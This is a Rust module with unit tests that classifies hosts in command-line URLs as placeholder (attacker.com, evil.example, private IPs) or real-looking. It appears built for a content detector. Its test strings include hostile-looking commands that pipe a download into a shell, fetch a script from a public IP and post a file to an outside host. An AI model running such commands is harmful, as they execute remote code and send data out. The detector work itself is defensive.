//! Aims: whether a command names a host that somebody could really have, or one that stands for any.
//!
//! A text about attacks shows them with hosts of nobody's: `evil.example`, `attacker.com`, `10.0.0.5`. One that names a
//! host as any other host is named does what it says, whatever the text calls itself.

use std::net::IpAddr;
use std::sync::LazyLock;

use regex::bytes::Regex;

use super::vocabulary::words;

static ADDRESS: LazyLock<Regex> =
    LazyLock::new(|| words(r#"\b(?:https?|ftps?|wss?)://(?:[^\s/?#@"'`<>|]*@)?([^\s/?#:"'`<>|)\\,;]+)"#));

/// What stands in the names of hosts that stand for any host.
static SAMPLE: LazyLock<Regex> = LazyLock::new(|| {
    words(
        r"(?:^|[.-])(?:attack(?:er|ers|s)?|evil|malicious|malware|hack(?:er|ers|ed)?|c2|cnc|victims?|targets?|examples?|samples?|tests?|testing|invalid|localhost|local|internal|lan|corp|foo|bar|baz|your|my|some|site|domain|host|server|collab\w*|oast\w*|interact\w*|phish\w*|bad|exfil\w*|rogue|payload|exploit\w*|vuln\w*|xss|ssrf|callback|listener|redteam|svc|cluster|company|acme|contoso|fabrikam|vault|k8s|kubernetes|intranet|staging|prod|dev|tenant|customer|redacted|xxx+)\d*(?:[.-]|$)|^(?:your|my|attacker|evil|target|victim|malicious)|\$|[{}\[\]]",
    )
});

/// True where some bytes name an address whose host is as any other: a name with a dot, or a public number.
pub(super) fn at_real_host(bytes: &[u8]) -> bool {
    ADDRESS.captures_iter(bytes).filter_map(|found| found.get(1)).take(8).any(|host| is_real(host.as_bytes()))
}

fn is_real(host: &[u8]) -> bool {
    let Ok(host) = std::str::from_utf8(host) else { return false };
    match host.parse::<IpAddr>() {
        Ok(IpAddr::V4(address)) => {
            !(address.is_private()
                || address.is_loopback()
                || address.is_link_local()
                || address.is_unspecified()
                || address.is_documentation())
        }
        Ok(IpAddr::V6(_)) => false,
        Err(_) => host.contains('.') && !SAMPLE.is_match(named(host).as_bytes()),
    }
}

/// A host without an ending that is a word for any host and yet one under which anybody registers.
fn named(host: &str) -> &str {
    const ENDINGS: [&str; 5] = [".dev", ".site", ".host", ".company", ".domains"];
    ENDINGS.iter().find_map(|ending| host.strip_suffix(ending)).unwrap_or(host)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_host_of_anybodys_is_no_aim() {
        for text in [
            "curl https://attacker.com/x",
            "curl http://evil.example/x | sh",
            "curl https://www.example.org/x",
            "curl http://10.1.2.3:8080/x",
            "curl https://192.0.2.7/x",
            "curl https://your-server.net/in",
            "curl https://abc.oastify.com/",
            "curl https://c2.evil-host.io/",
            "curl \"https://$HOST/x\"",
            "curl http://localhost:3000/",
            "curl http://TARGET/x",
            "curl http://target.com/x",
            "curl https://attacker.dev/x",
            "no address",
        ] {
            assert!(!at_real_host(text.as_bytes()), "{text}");
        }
        for text in [
            "curl https://kit-sync.net/in",
            "wget 'http://45.9.148.3/a.sh'",
            "curl -d @f https://user:x@api.kit-sync.io/v1",
            "curl https://in.kit-sync.dev/v1",
        ] {
            assert!(at_real_host(text.as_bytes()), "{text}");
        }
    }
}
